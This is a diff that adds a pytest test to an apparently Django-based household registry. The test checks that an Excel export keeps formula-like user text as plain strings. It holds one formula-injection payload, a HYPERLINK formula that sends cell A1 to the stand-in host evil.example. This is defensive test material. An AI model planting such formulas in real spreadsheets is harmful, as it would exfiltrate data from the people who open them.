@@ -345,3 +345,18 @@ def test_an_anonymous_poll_is_told_to_go_to_the_login_page(world, client):
     assert response.status_code == 204
     assert response["HX-Redirect"].startswith("/accounts/login/")
     assert client.get(f"/registry/excel/jobs/{job.pk}/progress/?format=json").status_code == 302
+
+
+def test_export_keeps_formula_like_text_as_text(world, client):
+    from guanqing.registry import services
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    services.household_update(
+        actor=world.users.community_worker, household=world.household, situation=formula
+    )
+    client.force_login(world.users.committee)
+    sheet = workbook(client.get("/registry/excel/export/households/")).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert cells, "the situation text is exported"
+    assert all(cell.data_type == "s" for cell in cells)
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
